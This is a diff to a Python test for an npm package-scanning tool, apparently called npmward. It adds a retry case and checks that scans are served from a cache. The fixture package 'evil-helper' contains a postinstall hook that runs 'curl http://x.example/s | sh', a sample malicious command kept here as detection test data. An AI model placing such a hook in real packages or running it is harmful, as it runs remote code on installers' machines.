@@ -57,34 +57,42 @@ def test_a_new_user_adds_runs_lists_and_exports(tmp_path, monkeypatch):
     assert npmward("monitor", "run", "--db", "mysql://x").exit_code == 2
 
 
-def test_scan_mode_re_evaluates_from_the_cache_without_downloading_again(tmp_path, monkeypatch):
+def test_scan_mode_re_evaluates_from_the_cache_and_retries_what_failed(tmp_path, monkeypatch):
     from npmward.monitor import changes
+    from npmward.registry import HttpPolicy
 
+    monkeypatch.setattr("npmward.registry.client.HttpPolicy", lambda: HttpPolicy(retries=0))  # no backoff waits
     evil = build_tarball({"package.json": json.dumps({"name": "evil-helper", "version": "1.0.0",
                                                       "scripts": {"postinstall": "curl http://x.example/s | sh"}})})
     fine = build_tarball({"package.json": '{"name": "fine-lib", "version": "2.0.0", "main": "index.js"}',
                           "index.js": "module.exports = (a, b) => a + b;\n"})
-    sri = {n: "sha512-" + base64.b64encode(hashlib.sha512(d).digest()).decode() for n, d in
-           (("evil-helper", evil), ("fine-lib", fine))}
+    flaky = build_tarball({"package.json": '{"name": "flaky-lib", "version": "3.0.0"}'})
+    packages = (("evil-helper", "1.0.0", evil), ("fine-lib", "2.0.0", fine), ("flaky-lib", "3.0.0", flaky))
+    sri = {n: "sha512-" + base64.b64encode(hashlib.sha512(d).digest()).decode() for n, _, d in packages}
     with LocalServer() as server:
         monkeypatch.setenv("npm_config_registry", server.url)
-        for name, version, data in (("evil-helper", "1.0.0", evil), ("fine-lib", "2.0.0", fine)):
+        for name, version, data in packages:
             tarball = f"{server.url}{name}/-/{name}-{version}.tgz"
             server.route(f"/{name}/-/{name}-{version}.tgz", (200, {}, data))
             server.json(f"/{name}", {"name": name, "dist-tags": {"latest": version}, "versions": {
                 version: {"name": name, "version": version, "dist": {"tarball": tarball, "integrity": sri[name]}}}})
-        project = write_project(tmp_path / "svc", {"evil-helper": "1.0.0", "fine-lib": "2.0.0"}, sri, server.url)
+        server.route("/flaky-lib/-/flaky-lib-3.0.0.tgz", (404, {}, b"gone"), (200, {}, flaky))  # fails once
+        project = write_project(tmp_path / "svc", {name: version for name, version, _ in packages}, sri, server.url)
         assert npmward("monitor", "add", str(project)).exit_code == 0
         first = npmward("monitor", "run", "-f", "json")
         outcome = json.loads(first.stdout)["projects"][0]
-        assert outcome["trigger"] == "first" and outcome["malicious"] == 1, first.output
+        assert outcome["trigger"] == "first" and outcome["malicious"] == 1 and outcome["errors"], first.output
+        assert first.exit_code == 2  # a package could not be read: never called clean
+        # the next run evaluates the package left unknown, and only it
+        retried = json.loads(npmward("monitor", "run", "-f", "json").stdout)["projects"][0]
+        assert retried["trigger"] == "retry" and retried["reevaluated"] == 1 and not retried["errors"]
         downloads = len([s for s in server.seen if s.path.endswith(".tgz")])
-        assert downloads == 2
+        assert downloads == 4  # three packages, one of them twice
         real = changes.rules_key
         monkeypatch.setattr(changes, "rules_key", lambda mode: real(mode) + "-next")
-        second = json.loads(npmward("monitor", "run", "-f", "json").stdout)["projects"][0]
-        assert second["trigger"] == "rules" and second["reevaluated"] == 2 and second["malicious"] == 1
-        assert len([s for s in server.seen if s.path.endswith(".tgz")]) == downloads
+        third = json.loads(npmward("monitor", "run", "-f", "json").stdout)["projects"][0]
+        assert third["trigger"] == "rules" and third["reevaluated"] == 3 and third["malicious"] == 1
+        assert len([s for s in server.seen if s.path.endswith(".tgz")]) == downloads  # all from the cache
 
 
 def test_two_runs_and_a_triage_at_the_same_time_lose_nothing(tmp_path, db_url):
